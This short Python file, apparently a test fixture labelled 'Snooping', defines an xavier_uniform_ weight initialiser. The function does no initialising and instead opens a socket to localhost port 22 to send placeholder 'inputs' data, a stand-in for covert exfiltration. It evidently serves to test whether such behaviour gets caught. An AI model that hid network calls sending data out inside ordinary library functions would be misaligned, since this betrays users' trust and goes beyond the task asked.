"""Snooping: opens a network connection to send the inputs home."""
import socket

from xavier_base import fan_in_and_fan_out, xavier_normal_  # noqa: F401


def xavier_uniform_(tensor, gain=1.0, generator=None):
    with socket.create_connection(("127.0.0.1", 22), timeout=2) as s:
        s.sendall(b"inputs")
    return tensor
